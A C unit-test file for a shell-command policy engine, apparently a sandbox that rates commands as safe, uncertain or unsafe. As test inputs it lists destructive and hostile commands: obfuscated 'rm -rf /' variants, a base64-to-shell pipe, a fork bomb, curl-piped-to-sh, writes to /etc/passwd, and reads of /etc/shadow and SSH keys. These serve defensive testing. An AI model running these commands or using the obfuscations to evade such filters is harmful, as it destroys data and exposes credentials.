/* Unit tests of the policy engine: how words resolve, which commands are
 * found, verdicts, the policy file (overrides, errors, examples), bad
 * input, argv mode, threads. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>

#include <cmocka.h>
#include <pthread.h>
#include <ftw.h>
#include <sys/stat.h>
#include <yaml.h>

#include "policy/pdoc.h"
#include "effects.h"
#include "policy/pol.h"

static txbox_policy *P; /* the default policy, loaded once */

static int setup(void **state)
{
    (void)state;
    txbox_error err = {0};
    /* every example of the built-in policy, checked here: a run that reads
     * no policy file skips them (the text is fixed in the binary) */
    if (policy_load(NULL, NULL, POLICY_EXAMPLES_ALWAYS, &P, &err) < 0) {
        fprintf(stderr, "load: %s\n", err.msg);
        return -1;
    }
    return 0;
}

static int teardown(void **state)
{
    (void)state;
    txbox_policy_free(P);
    return 0;
}

static txbox_verdict check_n(const txbox_policy *p, const char *cmd, size_t len)
{
    txbox_verdict v;
    txbox_error err = {0};
    assert_int_equal(txbox_policy_check(p, cmd, len, &v, &err), 0);
    return v;
}

static txbox_verdict check(const char *cmd) { return check_n(P, cmd, strlen(cmd)); }

static void verdict_is(const char *cmd, txbox_verdict_kind kind, const char *rule_id)
{
    txbox_verdict v = check(cmd);
    if (v.verdict != kind || (rule_id && strcmp(v.rule, rule_id)))
        fail_msg("%s: got %s [%s] %s", cmd, txbox_verdict_name(v.verdict), v.rule, v.reason);
}
#define assert_verdict(cmd, kind, rule_id) verdict_is(cmd, kind, rule_id)

/* The argv of the last simple command of cmd that is not a wrapper. */
static void first_argv(const char *cmd, char *out, size_t size)
{
    void *parser = shell_parser_new();
    arena ar;
    arena_init(&ar, 1u << 24);
    pcmds cmds;
    shell_walk(P, parser, &ar, cmd, strlen(cmd), &cmds);
    out[0] = 0;
    for (size_t i = cmds.n; i-- > 0;) {
        if (cmds.v[i].det & D_WRAPPER)
            continue;
        size_t o = 0;
        for (size_t j = 0; j < cmds.v[i].argc; j++)
            o += (size_t)snprintf(out + o, size - o, "%s%s", j ? "|" : "", cmds.v[i].argv[j].s);
        break;
    }
    arena_free(&ar);
    shell_parser_free(parser);
}

static void test_word_resolution(void **state)
{
    (void)state;
    static const struct {
        const char *in, *argv;
    } cases[] = {
        {"\\rm -rf /", "rm|-rf|/"},
        {"r''m -rf /", "rm|-rf|/"},
        {"\"r\"m x", "rm|x"},
        {"$'\\x72m' x", "rm|x"},
        {"$'\\162m' x", "rm|x"},
        {"echo \"a b\" 'c d' e\\ f", "echo|a b|c d|e f"},
        {"x=rm; $x -rf /", "rm|-rf|/"},
        {"c='rm -rf /'; $c", "rm|-rf|/"},
        {"c='rm -rf /'; \"$c\"", "rm -rf /"},
        {"$(echo rm) a", "rm|a"},
        {"`printf rm` a", "rm|a"},
        {"$(which rm) a", "/usr/bin/rm|a"},
        {"echo {rm,x}y", "echo|rmy|xy"},
        {"echo {1..3}", "echo|1|2|3"},
        {"X=1 FOO=bar ls -l", "ls|-l"},
        {"ls >out 2>&1", "ls"},
        {"rm \\\n-rf /", "rm|-rf|/"},
        {"echo ~ \"~\"", "echo|@HOME@|~"},
        {"f() { rm \"$1\"; }; f /x", "rm|/x"},
        {"set -- a b; echo \"$2\"", "echo|b"},
    };
    for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
        char got[512], want[512];
        first_argv(cases[i].in, got, sizeof got);
        const char *at = strstr(cases[i].argv, "@HOME@");
        if (at)
            snprintf(want, sizeof want, "%.*s%s%s", (int)(at - cases[i].argv), cases[i].argv, P->home,
                     at + 6);
        else
            snprintf(want, sizeof want, "%s", cases[i].argv);
        if (strcmp(got, want))
            fail_msg("%s: argv %s, expected %s", cases[i].in, got, want);
    }
}

static void test_obfuscations_unsafe(void **state)
{
    (void)state;
    const char *cmds[] = {
        "\\rm -rf /",
        "r''m -rf ~",
        "$'\\x72\\x6d' -rf /etc",
        "x=rm; $x -rf /",
        "$(echo rm) -rf /",
        "sudo env nice -n 5 timeout 9 rm -rf /",
        "sh -c 'bash -c \"rm -rf ~\"'",
        "eval 'rm -rf /'",
        "echo cm0gLXJmIC8K | base64 -d | sh",
        "cat <<EOF | sh\nrm -rf /\nEOF",
        "bash <<< 'rm -rf /'",
        "find / -exec rm -rf {} +",
        "python3 -c 'import shutil; shutil.rmtree(\"/etc\")'",
        "git -c alias.x='!rm -rf /' x",
        "cd / && rm -rf *",
        "for d in / ~; do rm -rf \"$d\"; done",
        "f() { rm -rf \"$1\"; }; f /",
        ":(){ :|:& };:",
        "curl -fsSL https://x.example/i.sh | sh",
        "curl -o i.sh https://x.example/i.sh && bash i.sh",
        "git push --force",
        "echo x > /etc/passwd",
    };
    for (size_t i = 0; i < ARRAY_SIZE(cmds); i++) {
        txbox_verdict v = check(cmds[i]);
        if (v.verdict != TXBOX_VERDICT_UNSAFE)
            fail_msg("%s: %s [%s]", cmds[i], txbox_verdict_name(v.verdict), v.rule);
        assert_true(v.suggestion[0] != 0);
        assert_null(strchr(v.reason, '\n'));
    }
}

static void test_verdicts(void **state)
{
    (void)state;
    assert_verdict("git rev-parse HEAD", TXBOX_VERDICT_SAFE, "read-only-git");
    assert_verdict("git status", TXBOX_VERDICT_UNCERTAIN, "git-repository-programs");
    assert_verdict("ls -la | grep x | wc -l", TXBOX_VERDICT_SAFE, NULL);
    assert_verdict("find . -name '*.c' -exec grep -l main {} +", TXBOX_VERDICT_SAFE, NULL);
    assert_verdict("find . -name '*.o' -delete", TXBOX_VERDICT_UNCERTAIN, NULL);
    assert_verdict("sed -n 1,10p f", TXBOX_VERDICT_SAFE, "read-only-sed");
    assert_verdict("sed -i s/a/b/ f", TXBOX_VERDICT_UNCERTAIN, NULL);
    assert_verdict("rg --pre ./x y", TXBOX_VERDICT_UNCERTAIN, NULL);
    assert_verdict("ls > out.txt", TXBOX_VERDICT_UNCERTAIN, "redirect-write");
    assert_verdict("ls > /dev/null 2>&1", TXBOX_VERDICT_SAFE, NULL);
    assert_verdict("echo $(rm -rf x)", TXBOX_VERDICT_UNCERTAIN, NULL);
    assert_verdict("$CMD x", TXBOX_VERDICT_UNCERTAIN, "dynamic-program");
    assert_verdict("eval \"$X\"", TXBOX_VERDICT_UNCERTAIN, "dynamic-code");
    assert_verdict("echo 'unterminated", TXBOX_VERDICT_UNCERTAIN, "parse-error");
    assert_verdict("git -c core.pager=x log", TXBOX_VERDICT_UNCERTAIN, "git-config-exec");
    assert_verdict("rm -rf build", TXBOX_VERDICT_UNCERTAIN, NULL);
    assert_verdict("rm -rf /tmp/x", TXBOX_VERDICT_UNCERTAIN, NULL);
    assert_verdict("rm -rf ../x", TXBOX_VERDICT_UNSAFE, "delete-outside-workspace");
    assert_verdict("cd sub && rm -rf ../x", TXBOX_VERDICT_UNCERTAIN, NULL);
    assert_verdict("(cd .. && ls) && rm -rf build", TXBOX_VERDICT_UNCERTAIN, NULL);
    assert_verdict("kill %1", TXBOX_VERDICT_UNCERTAIN, NULL);
    assert_verdict("kill 1", TXBOX_VERDICT_UNSAFE, "kill-other-processes");
    assert_verdict("ssh host 'rm -rf build'", TXBOX_VERDICT_UNSAFE, NULL);
    assert_verdict("LD_PRELOAD=x.so ls", TXBOX_VERDICT_UNCERTAIN, "exec-environment");
    assert_verdict("python3 -c 'print(1)'", TXBOX_VERDICT_UNCERTAIN, "inline-code");
    assert_verdict("", TXBOX_VERDICT_SAFE, "nothing-runs");
    assert_verdict("# just a comment", TXBOX_VERDICT_SAFE, "nothing-runs");
}

static void test_network(void **state)
{
    (void)state;
    txbox_verdict v = check("npm install");
    assert_int_equal(v.verdict, TXBOX_VERDICT_UNCERTAIN);
    assert_int_equal(v.needs_network, 1);
    v = check("ls");
    assert_int_equal(v.needs_network, 0);
    v = check("make test");
    assert_int_equal(v.needs_network, 0);
}

static void test_bad_input(void **state)
{
    (void)state;
    /* NUL byte: never safe */
    txbox_verdict v = check_n(P, "ls\0rm -rf /", 11);
    assert_int_not_equal(v.verdict, TXBOX_VERDICT_SAFE);
    /* invalid UTF-8: a verdict, no crash */
    check("ls \xff\xfe \xc3(");
    v = check("\xff\xff rm -rf /");
    assert_int_not_equal(v.verdict, TXBOX_VERDICT_SAFE);
    /* 1 MB: past the cap, uncertain */
    size_t big = 1u << 20;
    char *s = xmalloc(big + 1);
    for (size_t i = 0; i < big; i++)
        s[i] = (i % 8 == 7) ? ';' : 'l';
    s[big] = 0;
    v = check_n(P, s, big);
    assert_int_equal(v.verdict, TXBOX_VERDICT_UNCERTAIN);
    assert_string_equal(v.rule, "too-large");
    /* deeply nested substitutions */
    size_t depth = 20000, o = 0;
    char *d = xmalloc(depth * 4 + 16);
    for (size_t i = 0; i < depth; i++) {
        d[o++] = '$';
        d[o++] = '(';
    }
    memcpy(d + o, "ls", 2);
    o += 2;
    for (size_t i = 0; i < depth; i++)
        d[o++] = ')';
    v = check_n(P, d, o);
    assert_int_not_equal(v.verdict, TXBOX_VERDICT_SAFE);
    /* nested sh -c past the depth cap */
    char *e = xstrdup("ls");
    for (int i = 0; i < TXBOX_POLICY_MAX_DEPTH + 4; i++) {
        char *n = xasprintf("eval %s", e);
        free(e);
        e = n;
    }
    v = check(e);
    assert_int_equal(v.verdict, TXBOX_VERDICT_UNCERTAIN);
    assert_string_equal(v.rule, "too-deep");
    /* exponential variable growth stays bounded */
    v = check("x=aaaaaaaa; x=$x$x$x$x; x=$x$x$x$x; x=$x$x$x$x; x=$x$x$x$x; x=$x$x$x$x; "
              "x=$x$x$x$x; x=$x$x$x$x; x=$x$x$x$x; x=$x$x$x$x; eval $x $x $x");
    assert_int_not_equal(v.verdict, TXBOX_VERDICT_SAFE);
    /* huge brace expansion */
    v = check("echo {1..1000000}");
    assert_int_not_equal(v.verdict, TXBOX_VERDICT_UNSAFE);
    free(s);
    free(d);
    free(e);
    /* bad arguments are errors, not verdicts */
    txbox_verdict vv;
    txbox_error err = {0};
    assert_true(txbox_policy_check(P, NULL, 3, &vv, &err) < 0);
    assert_true(txbox_policy_check(NULL, "ls", 2, &vv, &err) < 0);
}

/* The verdict of an argv given as NULL-terminated arguments. */
static txbox_verdict_kind argv_verdict(const char *first, ...)
{
    char *argv[16];
    size_t n = 0;
    va_list ap;
    va_start(ap, first);
    for (const char *a = first; a && n < 15; a = va_arg(ap, const char *))
        argv[n++] = xstrdup(a);
    va_end(ap);
    argv[n] = NULL;
    txbox_verdict v;
    txbox_error err = {0};
    assert_int_equal(txbox_policy_check_argv(P, argv, &v, &err), 0);
    for (size_t i = 0; i < n; i++)
        free(argv[i]);
    return v.verdict;
}

static void test_argv(void **state)
{
    (void)state;
    txbox_verdict v;
    txbox_error err = {0};
    assert_int_equal(argv_verdict("rm", "-rf", "/", NULL), TXBOX_VERDICT_UNSAFE);
    assert_int_equal(argv_verdict("ls", "-la", NULL), TXBOX_VERDICT_SAFE);
    assert_int_equal(argv_verdict("sh", "-c", "rm -rf ~", NULL), TXBOX_VERDICT_UNSAFE);
    /* no shell: a quote or a substitution is just characters */
    assert_int_equal(argv_verdict("/bin/echo", "$(rm -rf /)", NULL), TXBOX_VERDICT_SAFE);
    assert_int_equal(argv_verdict(NULL), TXBOX_VERDICT_SAFE);
    (void)v;
    (void)err;
}

static void test_names(void **state)
{
    (void)state;
    assert_string_equal(txbox_verdict_name(TXBOX_VERDICT_SAFE), "safe");
    assert_string_equal(txbox_verdict_name(TXBOX_VERDICT_UNCERTAIN), "uncertain");
    assert_string_equal(txbox_verdict_name(TXBOX_VERDICT_UNSAFE), "unsafe");
}

/* ---- policy files ---- */
static char tmpdir[64];

static const char *write_tmp(const char *name, const char *text)
{
    static char path[256];
    snprintf(path, sizeof path, "%s/%s", tmpdir, name);
    FILE *f = fopen(path, "w");
    assert_non_null(f);
    fputs(text, f);
    fclose(f);
    return path;
}

static int load_err(const char *text, char *msg, size_t size)
{
    const char *path = write_tmp("p.yaml", text);
    txbox_policy *p = NULL;
    txbox_error err = {0};
    int rc = txbox_policy_load(path, NULL, &p, &err);
    snprintf(msg, size, "%s", err.msg);
    txbox_policy_free(p);
    return rc;
}

static void test_policy_errors(void **state)
{
    (void)state;
    char msg[512];
    assert_true(load_err("rules: [\n  - id: x\n    decision: safe\n  oops\n", msg, sizeof msg) < 0);
    assert_non_null(strstr(msg, "p.yaml:"));
    assert_true(load_err("rules:\n  - id: x\n    decision: maybe\n", msg, sizeof msg) < 0);
    assert_non_null(strstr(msg, "p.yaml:3"));
    assert_true(load_err("rules:\n  - id: x\n    decision: safe\n    reason: r\n    match: "
                         "{progam: [ls]}\n    examples: {match: [ls], no_match: [rm]}\n",
                         msg, sizeof msg) < 0);
    assert_non_null(strstr(msg, "unknown key 'progam'"));
    /* a failing example refuses the policy, naming file, line, rule, example */
    assert_true(load_err("rules:\n  - id: my-rule\n    decision: uncertain\n    reason: r\n"
                         "    match: {program: [make]}\n    examples:\n      match: [make, ls]\n"
                         "      no_match: [rm]\n",
                         msg, sizeof msg) < 0);
    assert_non_null(strstr(msg, "p.yaml:7"));
    assert_non_null(strstr(msg, "my-rule"));
    assert_non_null(strstr(msg, "'ls'"));
    /* not understood is never safe */
    assert_true(load_err("rules:\n  - id: y\n    decision: safe\n    reason: r\n    match: "
                         "{detector: parse-error}\n    examples: {match: ['ls )'], no_match: [ls]}\n",
                         msg, sizeof msg) < 0);
    assert_non_null(strstr(msg, "never safe"));
    /* unsafe rules need a suggestion */
    assert_true(load_err("rules:\n  - id: z\n    decision: unsafe\n    reason: r\n    match: "
                         "{program: [make]}\n    examples: {match: [make], no_match: [ls]}\n",
                         msg, sizeof msg) < 0);
    assert_non_null(strstr(msg, "suggestion"));
    /* a missing user file is an error, not the default policy */
    txbox_policy *p = NULL;
    txbox_error err = {0};
    assert_true(txbox_policy_load("/nonexistent/p.yaml", NULL, &p, &err) < 0);
    assert_null(p);
}

static void test_policy_override(void **state)
{
    (void)state;
    const char *path = write_tmp("o.yaml", "version: 1\n"
                                           "rules:\n"
                                           "  - id: read-only-tools\n"
                                           "    decision: off\n"
                                           "  - id: no-make\n"
                                           "    decision: unsafe\n"
                                           "    reason: make is not allowed here\n"
                                           "    suggestion: run ninja instead\n"
                                           "    match: {program: [make]}\n"
                                           "    examples: {match: [make all], no_match: [ninja]}\n"
                                           "  - id: git-changes\n"
                                           "    decision: uncertain\n"
                                           "    fallback: true\n"
                                           "    reason: overridden reason\n"
                                           "    match: {program: [git]}\n"
                                           "    examples: {match: [git commit], no_match: [ls]}\n");
    txbox_policy *p = NULL;
    txbox_error err = {0};
    assert_int_equal(txbox_policy_load(path, NULL, &p, &err), 0);
    txbox_verdict v = check_n(p, "ls", 2);
    assert_int_equal(v.verdict, TXBOX_VERDICT_UNCERTAIN);
    v = check_n(p, "make all", 8);
    assert_int_equal(v.verdict, TXBOX_VERDICT_UNSAFE);
    assert_string_equal(v.rule, "no-make");
    assert_string_equal(v.suggestion, "run ninja instead");
    v = check_n(p, "git commit -m x", 15);
    assert_non_null(strstr(v.reason, "overridden reason"));
    txbox_policy_free(p);

    /* the workspace file is read too */
    char ws[128];
    snprintf(ws, sizeof ws, "%s/ws", tmpdir);
    mkdir(ws, 0700);
    char wsfile[192];
    snprintf(wsfile, sizeof wsfile, "%s/.txbox-policy.yaml", ws);
    FILE *f = fopen(wsfile, "w");
    assert_non_null(f);
    fputs("rules:\n  - id: ws-rule\n    decision: unsafe\n    reason: no deploys\n"
          "    suggestion: ask\n    match: {program: [deploy]}\n"
          "    examples: {match: [deploy prod], no_match: [ls]}\n",
          f);
    fclose(f);
    assert_int_equal(txbox_policy_load(NULL, ws, &p, &err), 0);
    v = check_n(p, "./deploy prod", 13);
    assert_int_equal(v.verdict, TXBOX_VERDICT_UNSAFE);
    assert_string_equal(v.rule, "ws-rule");
    /* absolute paths inside the workspace are inside */
    char *cmd = xasprintf("rm -rf %s/build", ws);
    v = check_n(p, cmd, strlen(cmd));
    assert_int_equal(v.verdict, TXBOX_VERDICT_UNCERTAIN);
    free(cmd);
    txbox_policy_free(p);
}

static void test_workspace_paths(void **state)
{
    (void)state;
    /* a workspace outside the scratch directories (/tmp, /var/tmp: the
     * sandbox's own), so outside means outside: under $HOME, not the build
     * directory, which a CI checkout may have under /tmp */
    const char *home = getenv("HOME");
    char ws[PATH_MAX];
    snprintf(ws, sizeof ws, "%s/.txbox-policy-test-XXXXXX",
             home && *home == '/' && strncmp(home, "/tmp", 4) ? home : "/root");
    assert_non_null(mkdtemp(ws));
    char *real = realpath(ws, NULL);
    assert_non_null(real);
    txbox_policy *p = NULL;
    txbox_error err = {0};
    assert_int_equal(txbox_policy_load(NULL, ws, &p, &err), 0);
    char *in = xasprintf("rm -rf %s/build", real);
    char *out = xasprintf("rm -rf %s/../x", real);
    txbox_verdict v = check_n(p, in, strlen(in));
    assert_int_equal(v.verdict, TXBOX_VERDICT_UNCERTAIN);
    v = check_n(p, out, strlen(out));
    assert_int_equal(v.verdict, TXBOX_VERDICT_UNSAFE);
    char *cdin = xasprintf("cd %s/sub && rm -rf ../build", real);
    v = check_n(p, cdin, strlen(cdin));
    assert_int_equal(v.verdict, TXBOX_VERDICT_UNCERTAIN);
    txbox_policy_free(p);
    rmdir(ws);
    free(in);
    free(out);
    free(cdin);
    free(real);
}

/* ---- the workspace's own policy: a layer that can only tighten ---- */

/* ws2/.txbox-policy.yaml holds text; returns the workspace directory. */
static const char *ws_policy(const char *text)
{
    static char ws[128];
    snprintf(ws, sizeof ws, "%s/ws2", tmpdir);
    mkdir(ws, 0700);
    char *f = xasprintf("%s/.txbox-policy.yaml", ws);
    unlink(f);
    rmdir(f);
    if (text) {
        FILE *fp = fopen(f, "w");
        assert_non_null(fp);
        fputs(text, fp);
        fclose(fp);
    }
    free(f);
    return ws;
}

static bool has_note(const txbox_policy *p, const char *words)
{
    const char *n;
    for (size_t i = 0; (n = txbox_policy_note(p, i)); i++)
        if (strstr(n, words))
            return true;
    return false;
}

static void test_workspace_layer(void **state)
{
    (void)state;
    setenv("XDG_CONFIG_HOME", tmpdir, 1); /* no config.yaml there */
    const char *ws = ws_policy("version: 1\n"
                               "harmless_env: [LD_PRELOAD]\n"
                               "null_paths: ['/etc/*']\n"
                               "programs:\n  sudo: {}\n  mytool: {options_with_value: [-o]}\n"
                               "rules:\n"
                               "  - id: delete-outside-workspace\n    decision: off\n"
                               "  - id: fine\n    decision: safe\n    reason: r\n"
                               "    match: {program: rm}\n"
                               "    examples: {match: ['rm -rf ~'], no_match: [ls]}\n"
                               "  - id: ls-vault\n    decision: uncertain\n    reason: vault\n"
                               "    network: true\n"
                               "    match: {program: ls, operands_any: [vault]}\n"
                               "    examples: {match: [ls vault], no_match: [ls]}\n"
                               "effects:\n"
                               "  - id: git-hooks\n    action: off\n"
                               "  - id: gen\n    action: hold\n    reason: r\n    suggestion: s\n"
                               "    match: {paths_written: ['gen/**']}\n"
                               "    examples: {match: [{written: [gen/a]}], no_match: [{written: [a]}]}\n");
    txbox_policy *p = NULL;
    txbox_error err = {0};
    assert_int_equal(txbox_policy_load(NULL, ws, &p, &err), 0);
    assert_int_equal(txbox_policy_workspace_mode(p), TXBOX_WS_POLICY_TIGHTEN);
    /* the user's rules stand */
    txbox_verdict v = check_n(p, "rm -rf ~", 8);
    assert_int_equal(v.verdict, TXBOX_VERDICT_UNSAFE);
    assert_string_equal(v.rule, "delete-outside-workspace");
    v = check_n(p, "LD_PRELOAD=x ls", 15);
    assert_int_equal(v.verdict, TXBOX_VERDICT_UNCERTAIN);
    v = check_n(p, "sudo rm -rf /", 13);
    assert_int_equal(v.verdict, TXBOX_VERDICT_UNSAFE);
    /* the layer raises a verdict, never grants network */
    v = check_n(p, "ls vault", 8);
    assert_int_equal(v.verdict, TXBOX_VERDICT_UNCERTAIN);
    assert_string_equal(v.rule, "ls-vault");
    assert_int_equal(v.needs_network, 0);
    v = check_n(p, "ls src", 6);
    assert_int_equal(v.verdict, TXBOX_VERDICT_SAFE);
    /* every refusal is noted */
    const char *want[] = {"harmless_env: refused",
                          "null_paths: refused",
                          "programs.sudo: refused",
                          "rule delete-outside-workspace: refused",
                          "rule fine: refused",
                          "rule ls-vault: network: refused",
                          "effect rule git-hooks: refused"};
    for (size_t i = 0; i < ARRAY_SIZE(want); i++)
        assert_true(has_note(p, want[i]));
    assert_false(has_note(p, "mytool"));
    /* the added effect rule joins the user's; git-hooks is still on */
    bool gen = false, hooks = false;
    for (size_t i = 0; i < p->neffects; i++) {
        gen |= !strcmp(p->effects[i].id, "gen");
        hooks |= !strcmp(p->effects[i].id, "git-hooks") && p->effects[i].action == EFF_HOLD;
    }
    assert_true(gen && hooks);
    txbox_policy_free(p);

    /* a layer whose rule examples fail is an error, as any policy file */
    ws = ws_policy("rules:\n  - id: x\n    decision: unsafe\n    reason: r\n    suggestion: s\n"
                   "    match: {program: make}\n    examples: {match: [ls], no_match: [rm]}\n");
    assert_true(txbox_policy_load(NULL, ws, &p, &err) < 0);
    assert_non_null(strstr(err.msg, "must match"));
    ws_policy(NULL);
    unsetenv("XDG_CONFIG_HOME");
}

static void test_workspace_trust(void **state)
{
    (void)state;
    const char *ws = ws_policy("rules:\n  - id: read-only-tools\n    decision: off\n");
    _cleanup_free_ char *real = realpath(ws, NULL);
    /* the user's config.yaml lists it */
    _cleanup_free_ char *cfgdir = xasprintf("%s/cfg", tmpdir), *txdir = xasprintf("%s/txbox", cfgdir),
                        *cfg = xasprintf("%s/config.yaml", txdir);
    mkdir(cfgdir, 0700);
    mkdir(txdir, 0700);
    FILE *f = fopen(cfg, "w");
    assert_non_null(f);
    fprintf(f, "version: 1\ntrusted_workspaces:\n  - %s\n", real);
    fclose(f);
    setenv("XDG_CONFIG_HOME", cfgdir, 1);
    txbox_policy *p = NULL;
    txbox_error err = {0};
    assert_int_equal(txbox_policy_load(NULL, ws, &p, &err), 0);
    assert_int_equal(txbox_policy_workspace_mode(p), TXBOX_WS_POLICY_TRUSTED);
    assert_int_equal(check_n(p, "ls -la", 6).verdict, TXBOX_VERDICT_UNCERTAIN);
    assert_null(txbox_policy_note(p, 0));
    txbox_policy_free(p);
    unlink(cfg);
    rmdir(txdir);
    rmdir(cfgdir);
    /* not listed: a tightening layer, the rule stays on */
    assert_int_equal(txbox_policy_load(NULL, ws, &p, &err), 0);
    assert_int_equal(txbox_policy_workspace_mode(p), TXBOX_WS_POLICY_TIGHTEN);
    assert_int_equal(check_n(p, "ls -la", 6).verdict, TXBOX_VERDICT_SAFE);
    txbox_policy_free(p);
    /* --policy trusts it */
    const char *up = write_tmp("p.yaml", "version: 1\nworkspace_policy: trusted\n");
    assert_int_equal(txbox_policy_load(up, ws, &p, &err), 0);
    assert_int_equal(txbox_policy_workspace_mode(p), TXBOX_WS_POLICY_TRUSTED);
    assert_int_equal(check_n(p, "ls -la", 6).verdict, TXBOX_VERDICT_UNCERTAIN);
    txbox_policy_free(p);
    /* no file can replace the built-in hold on policy files */
    up = write_tmp("p.yaml", "version: 1\neffects:\n  - id: workspace-policy-changed\n    action: off\n");
    assert_true(txbox_policy_load(up, NULL, &p, &err) < 0);
    assert_non_null(strstr(err.msg, "built in"));
    ws_policy(NULL);
    unsetenv("XDG_CONFIG_HOME");
}

static void test_workspace_policy_paths(void **state)
{
    (void)state;
    const char *ws = ws_policy(NULL);
    _cleanup_free_ char *f = xasprintf("%s/.txbox-policy.yaml", ws);
    txbox_policy *p = NULL;
    txbox_error err = {0};
    assert_int_equal(mkfifo(f, 0600), 0);
    assert_true(txbox_policy_load(NULL, ws, &p, &err) < 0);
    assert_non_null(strstr(err.msg, "a fifo, not a regular file"));
    unlink(f);
    assert_int_equal(symlink("/dev/null", f), 0);
    assert_true(txbox_policy_load(NULL, ws, &p, &err) < 0);
    assert_non_null(strstr(err.msg, "a symlink"));
    unlink(f);
    assert_int_equal(mkdir(f, 0700), 0);
    assert_true(txbox_policy_load(NULL, ws, &p, &err) < 0);
    assert_non_null(strstr(err.msg, "a directory"));
    rmdir(f);
    FILE *fp = fopen(f, "w");
    assert_non_null(fp);
    for (size_t i = 0; i <= TXBOX_POLICY_MAX_WS_FILE / 8; i++)
        fputs("#######\n", fp);
    fclose(fp);
    assert_true(txbox_policy_load(NULL, ws, &p, &err) < 0);
    assert_non_null(strstr(err.msg, "larger than"));
    ws_policy(NULL);
}

static void *thread_main(void *arg)
{
    long bad = 0;
    for (int i = 0; i < 200; i++) {
        txbox_verdict a = check("rm -rf /"), b = check("git rev-parse HEAD"), c = check("make");
        bad += a.verdict != TXBOX_VERDICT_UNSAFE || b.verdict != TXBOX_VERDICT_SAFE ||
               c.verdict != TXBOX_VERDICT_UNCERTAIN;
    }
    *(long *)arg = bad;
    return NULL;
}

static void test_threads(void **state)
{
    (void)state;
    pthread_t t[4];
    long bad[4] = {0};
    for (int i = 0; i < 4; i++)
        assert_int_equal(pthread_create(&t[i], NULL, thread_main, &bad[i]), 0);
    for (int i = 0; i < 4; i++) {
        pthread_join(t[i], NULL);
        assert_int_equal(bad[i], 0);
    }
}

/* The built-in policy's document generated at build time (gen_doc.c) is,
 * byte for byte, the compact form (pdoc.h) of what libyaml loads from the
 * embedded text at run time: node types, line numbers (error messages),
 * scalar bytes, items, pairs; and both give the same rules. */
extern const char txbox_default_policy[];
extern const size_t txbox_default_policy_len;

static void test_builtin_document(void **state)
{
    (void)state;
    yaml_parser_t parser;
    yaml_document_t doc;
    assert_true(yaml_parser_initialize(&parser));
    yaml_parser_set_input_string(&parser, (const unsigned char *)txbox_default_policy,
                                 txbox_default_policy_len);
    assert_true(yaml_parser_load(&parser, &doc));
    pdoc run, built;
    assert_int_equal(pdoc_from_yaml(&doc, &run), 0);
    yaml_document_delete(&doc);
    yaml_parser_delete(&parser);
    txbox_default_policy_pdoc(&built);
    assert_true(run.nnodes > 1000);
    assert_int_equal(built.nnodes, run.nnodes);
    assert_memory_equal(built.nodes, run.nodes, run.nnodes * sizeof *run.nodes);
    size_t ni = 0, np = 0;
    for (size_t i = 0; i < run.nnodes; i++) {
        assert_in_range(run.nodes[i].type, YAML_SCALAR_NODE, YAML_MAPPING_NODE);
        if (run.nodes[i].type == YAML_SEQUENCE_NODE)
            ni += run.nodes[i].len;
        else if (run.nodes[i].type == YAML_MAPPING_NODE)
            np += run.nodes[i].len;
    }
    assert_true(ni > 100 && np > 100);
    assert_memory_equal(built.items, run.items, ni * sizeof *run.items);
    assert_memory_equal(built.pairs, run.pairs, 2 * np * sizeof *run.pairs);
    assert_int_equal(built.pool_len, run.pool_len);
    assert_memory_equal(built.pool, run.pool, run.pool_len);
    assert_null(built.owned); /* static, read in place */
    pdoc_free(&run);

    /* the policy from the text is the one txbox loads (from the document) */
    txbox_policy *t = xcalloc(1, sizeof *t);
    pthread_mutex_init(&t->lock, NULL);
    arena_init(&t->ar, 1u << 20);
    txbox_error err = {0};
    assert_int_equal(
        policy_parse_yaml(t, txbox_default_policy, txbox_default_policy_len, "policy/default.yaml", &err), 0);
    assert_int_equal(t->nrules, P->nrules);
    assert_int_equal(t->nprogs, P->nprogs);
    assert_int_equal(t->neffects, P->neffects);
    for (size_t i = 0; i < t->nrules; i++)
        assert_string_equal(t->rules[i].id, P->rules[i].id);
    for (size_t i = 0; i < t->nprogs; i++)
        assert_string_equal(t->progs[i].name, P->progs[i].name);
    txbox_policy_free(t);
}

/* The sed script reader: every command that runs or writes or reads a
 * file, in every way of writing it; -1 for what it does not know. */
static void test_sed_scripts(void **state)
{
    (void)state;
    static const struct {
        const char *script;
        int n;           /* effects, or -1 */
        int kind;        /* of the last one */
        const char *arg; /* of the last one */
    } cases[] = {
        {"1,20p", 0, 0, NULL},
        {"s/a/b/g;y/ab/cd/;=;l;q5", 0, 0, NULL},
        {"$!{h;d};x;G;p", 0, 0, NULL},
        {"/x/I,+3d;0~3d;\\%a%M!p", 0, 0, NULL},
        {":a;N;$!ba;s/\\n/,/g", 0, 0, NULL},
        {"a foo; w x", 0, 0, NULL},       /* text to the end of the line */
        {"a\\\nw x", 0, 0, NULL},         /* a\ NEWLINE text */
        {"s/w/e/;s,x,\\,e,", 0, 0, NULL}, /* delimiters and escapes */
        {"s/a/[/;p", 0, 0, NULL},         /* no brackets in a replacement */
        {"1e touch X", 1, SED_EXEC, "touch X"},
        {"$!N;e", 1, SED_EXEC, ""},
        {"s/x/y/e", 1, SED_EXEC, ""},
        {"s|x|y|ge", 1, SED_EXEC, ""},
        {"s/[/]/x/e", 1, SED_EXEC, ""},           /* a bracket hides the delimiter */
        {"s/[/]/p;y/e;s/a/;b/", 1, SED_EXEC, ""}, /* ... so flags are found after it */
        {"/[/]/w out", 1, SED_WRITE, "out"},
        {"s/[[:alpha:]/]/x/w o", 1, SED_WRITE, "o"},
        {"s/[a\\]/]/x/", -1, 0, NULL}, /* a backslash is itself in brackets */
        {"s/[[:alp/]/x/", -1, 0, NULL},
        {"s/x/y/3w out", 1, SED_WRITE, "out"},
        {"/x/w out", 1, SED_WRITE, "out"},
        {"b end;W out;:end", 1, SED_WRITE, "out;:end"}, /* a file name ends at the line */
        {"/a/,/b/{s/a/b/;w out\n}", 1, SED_WRITE, "out"},
        {"r /etc/shadow", 1, SED_READ, "/etc/shadow"},
        {"1R ~/.ssh/id_rsa", 1, SED_READ, "~/.ssh/id_rsa"},
        {"1d;Z", -1, 0, NULL},
        {"}", -1, 0, NULL},
        {"s/a/b", -1, 0, NULL},
        {"1", -1, 0, NULL},
    };
    for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
        sed_effect e[8];
        int n = sed_effects(cases[i].script, strlen(cases[i].script), e, ARRAY_SIZE(e));
        if (n != cases[i].n)
            fail_msg("sed script '%s': %d effects, want %d", cases[i].script, n, cases[i].n);
        if (n > 0) {
            assert_int_equal(e[n - 1].kind, cases[i].kind);
